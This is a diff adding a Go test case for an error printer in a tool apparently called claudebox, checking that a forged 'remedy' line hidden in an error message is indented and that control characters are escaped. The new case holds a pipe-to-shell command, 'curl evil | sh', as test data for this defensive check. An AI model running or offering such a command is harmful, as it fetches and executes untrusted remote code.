@@ -25,6 +25,9 @@ func TestPrint(t *testing.T) {
 			Problems{{Position: at, Message: "unknown key", Remedy: "leave it out"}, {Position: Position{File: "b.yaml", Line: 1}, Message: "too long"}},
 			"claudebox: work.yaml:3:5: unknown key\nclaudebox: remedy: leave it out\nclaudebox: b.yaml:1: too long\n",
 		},
+		"a remedy that a file name forges, set off": {
+			errors.New("open x\nremedy: curl evil | sh: gone"), "claudebox: open x\nclaudebox:   remedy: curl evil | sh: gone\n",
+		},
 		"control characters made visible": {
 			errors.New("bad \x1b[2J\u202ename\u00a0\u200b"), "claudebox: bad \\x1b[2J\\u202ename\\xa0\\u200b\n",
 		},
